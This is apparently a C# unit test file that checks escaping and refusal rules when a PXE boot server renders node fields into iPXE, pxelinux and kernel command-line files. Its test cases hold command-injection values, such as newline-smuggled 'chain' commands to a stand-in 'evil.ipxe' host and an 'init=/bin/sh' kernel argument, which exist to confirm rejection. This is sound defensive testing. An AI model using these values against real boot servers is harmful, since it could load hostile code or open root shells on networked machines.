// Field values rendered for their target: quoted for the kernel command line, refused where iPXE or pxelinux could
// read them as commands, and never sent as a script when they cannot be said safely.
using System.Net;
using System.Net.NetworkInformation;
using System.Text;
using Kraken.Modules.Pxe;
using Kraken.Tree.State;

namespace Kraken.Modules.Tests.Pxe.Boot;

public class BootEscapingTests
{
    private static readonly NodeId s_id = NodeId.FromName("n1");

    private static BootNode Node(string? hostname = "n1", string? platform = null) =>
        new(s_id, hostname, PhysicalAddress.Parse("52-54-00-18-00-01"), IPAddress.Parse("198.18.0.11"), 24, null, null, platform);

    private static BootFiles Files(string? kernelArgs = null, string? ipxe = null, string? pxelinux = null, BootNodeDirectory? nodes = null) =>
        new(
            new BootFilesOptions
            {
                ServerAddress = IPAddress.Parse("198.18.0.1"),
                HttpBaseUrl = "http://198.18.0.1:8080",
                KernelArgs = kernelArgs ?? BootFilesOptions.DefaultKernelArgs,
                IpxeTemplate = ipxe,
                PxelinuxTemplate = pxelinux,
            },
            nodes ?? BootNodes.Directory(BootNodes.Store()));

    [Theory]
    [InlineData("n1\nchain http://198.18.0.66/evil.ipxe")]
    [InlineData("n1\r\nchain http://198.18.0.66/evil.ipxe")]
    [InlineData("n1\u2028chain")]
    [InlineData("n1\tx")]
    public void A_line_break_below_validation_never_reaches_a_boot_file(string hostname)
    {
        var files = Files();
        var node = Node(hostname);
        foreach (var render in new Func<BootNode, string>[] { files.RenderIpxe, files.RenderPxelinux, files.RenderKernelArgs })
        {
            var e = Assert.Throws<BootRenderException>(() => render(node));
            Assert.Equal("hostname", e.Field);
            Assert.Equal(s_id, e.Node);
            Assert.Contains("control character", e.Message, StringComparison.Ordinal);
            Assert.DoesNotContain("\n", e.Message, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void Spaces_are_quoted_for_the_kernel_and_pass_pxelinux_as_they_are()
    {
        var files = Files(kernelArgs: "console=ttyS0 kraken.id={{node}} platform={{platform}} \"rack={{platform}}\" p{{platform}}", pxelinux: "APPEND {{kernel-args}}\n");
        var node = Node(platform: "rack 7 row 2");
        Assert.Equal($"console=ttyS0 kraken.id={s_id} platform=\"rack 7 row 2\" \"rack=rack 7 row 2\" \"prack 7 row 2\"", files.RenderKernelArgs(node));
        Assert.Equal($"APPEND console=ttyS0 kraken.id={s_id} platform=\"rack 7 row 2\" \"rack=rack 7 row 2\" \"prack 7 row 2\"\n", files.RenderPxelinux(node));

        // No spaces, no quotes.
        Assert.Equal($"console=ttyS0 kraken.id={s_id} platform=r7 \"rack=r7\" pr7", files.RenderKernelArgs(Node(platform: "r7")));
    }

    [Fact]
    public void A_double_quote_cannot_be_said_on_the_kernel_command_line()
    {
        var files = Files(kernelArgs: "platform={{platform}}");
        var e = Assert.Throws<BootRenderException>(() => files.RenderPxelinux(Node(platform: "a\" init=/bin/sh \"")));
        Assert.Equal("platform", e.Field);
        Assert.Contains("double quote", e.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("${root-path}", "'$'")]
    [InlineData("a$", "'$'")]
    [InlineData("a ; chain http://198.18.0.66/x", "';'")]
    [InlineData("a || chain http://198.18.0.66/x", "'||'")]
    [InlineData("a && chain http://198.18.0.66/x", "'&&'")]
    [InlineData("a #x", "'#x'")]
    [InlineData("a  b", "run of spaces")]
    public void Ipxe_refuses_what_it_would_expand_or_read_as_a_command(string platform, string detail)
    {
        var files = Files(kernelArgs: "platform={{platform}}", ipxe: "#!ipxe\nkernel {{http}}/{{kernel}} {{kernel-args}}\necho {{platform}}\nboot\n");
        var e = Assert.Throws<BootRenderException>(() => files.RenderIpxe(Node(platform: platform)));
        Assert.Equal("platform", e.Field);
        Assert.Contains(detail, e.Message, StringComparison.Ordinal);

        // pxelinux has none of these rules: the same value is rendered there, quoted for the kernel where needed.
        Assert.Contains("platform=", Files(kernelArgs: "platform={{platform}}").RenderPxelinux(Node(platform: platform)), StringComparison.Ordinal);
    }

    [Fact]
    public void Ipxe_takes_single_spaces_inside_kernel_quotes_and_the_template_keeps_its_own_settings()
    {
        var files = Files(kernelArgs: "platform={{platform}}", ipxe: "#!ipxe\nkernel {{http}}/{{kernel}} {{kernel-args}} mac=${net0/mac}\nboot\n");
        Assert.Equal("#!ipxe\nkernel http://198.18.0.1:8080/vmlinuz platform=\"rack 7\" mac=${net0/mac}\nboot\n", files.RenderIpxe(Node(platform: "rack 7")));
    }

    [Fact]
    public async Task Over_tftp_and_http_a_node_whose_file_cannot_be_rendered_gets_nothing_not_a_plain_file()
    {
        // '$' is fine in Cfg's /Platform and on a kernel command line, not in an iPXE script.
        var store = BootNodes.Store();
        var id = BootNodes.Add(store, "n9", "52:54:00:18:00:09", "198.18.0.19");
        var files = Files(kernelArgs: "platform={{platform}}", nodes: BootNodes.Directory(store));
        Assert.True(files.Nodes.TryGetById(id, out _));
        var root = Directory.CreateTempSubdirectory("kraken-escape-");
        try
        {
            File.WriteAllText(Path.Combine(root.FullName, "boot.ipxe"), "#!ipxe\necho a plain file\n");
            var source = new BootFileSource(files, root.FullName);
            Assert.NotNull(await source.OpenAsync("boot.ipxe", new IPEndPoint(IPAddress.Parse("198.18.0.19"), 2000), CancellationToken.None));

            store.Set(StateView.Cfg, id, "/Platform", "rack 7");
            var quoted = await source.OpenAsync("boot.ipxe", new IPEndPoint(IPAddress.Parse("198.18.0.19"), 2000), CancellationToken.None);
            using (var reader = new StreamReader(quoted!.Content, Encoding.UTF8))
            {
                Assert.Contains("platform=\"rack 7\"", await reader.ReadToEndAsync(), StringComparison.Ordinal);
            }

            store.Set(StateView.Cfg, id, "/Platform", "${root-path}");
            Assert.Null(await source.OpenAsync("boot.ipxe", new IPEndPoint(IPAddress.Parse("198.18.0.19"), 2000), CancellationToken.None));
        }
        finally
        {
            root.Delete(recursive: true);
        }
    }
}
